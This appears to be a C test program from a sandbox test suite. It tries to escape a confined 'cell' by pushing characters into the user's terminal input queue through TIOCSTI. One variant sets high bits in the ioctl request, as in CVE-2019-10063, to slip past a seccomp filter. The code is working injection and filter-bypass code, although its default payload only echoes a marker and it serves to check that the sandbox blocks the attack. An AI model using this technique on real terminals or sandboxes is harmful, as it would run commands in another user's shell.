/* Push characters into the terminal's input queue (TIOCSTI): whatever
 * reads that terminal after the cell (the user's shell) would run them.
 * The test gives the cell a pty that is nobody's controlling terminal, so
 * the attack can first make it its own (setsid + TIOCSCTTY), which is all
 * the kernel asks for when dev.tty.legacy_tiocsti is 1.
 * usage: tiocsti plain|highbits MARKER */
#include "attack.h"

#include <sys/ioctl.h>
#include <termios.h>

static void inject(unsigned long cmd, const char *marker)
{
	attempt("ioctl(0, 0x%lx /* TIOCSTI */) with '%s\\n'", cmd, marker);
	size_t n = strlen(marker);
	int pushed = 0;
	for (size_t i = 0; i <= n; i++) {
		char c = i < n ? marker[i] : '\n';
		if (syscall(SYS_ioctl, 0, cmd, &c) < 0) {
			if (!pushed) {
				blocked_errno(errno);
				return;
			}
			break;
		}
		pushed++;
	}
	escaped("pushed %d characters into the terminal", pushed);
}

static void take_terminal(void)
{
	if (!isatty(0))
		setup_failed("stdin is not a terminal");
	attempt("setsid() and TIOCSCTTY: make the terminal our controlling one");
	if (getpid() != getsid(0))
		(void)setsid();
	if (ioctl(0, TIOCSCTTY, 0) < 0)
		blocked_errno(errno);
	else
		blocked("done (harmless alone; TIOCSTI must still fail)");
}

static void case_plain(int argc, char **argv)
{
	take_terminal();
	inject(TIOCSTI, argc > 1 ? argv[1] : "echo sc-attack-tiocsti");
}

/* CVE-2019-10063: a filter comparing all 64 bits of the request would miss
 * TIOCSTI | 1 << 32, which the kernel reads as TIOCSTI. */
static void case_highbits(int argc, char **argv)
{
	take_terminal();
	inject(TIOCSTI | (1UL << 32), argc > 1 ? argv[1] : "echo sc-attack-tiocsti");
	inject(TIOCSTI | (0xffffffffUL << 32), argc > 1 ? argv[1] : "echo sc-attack-tiocsti");
}

int main(int argc, char **argv)
{
	static const struct attack_case cases[] = {
		{"plain", case_plain},
		{"highbits", case_highbits},
		{NULL, NULL},
	};
	return attack_main(cases, argc, argv);
}
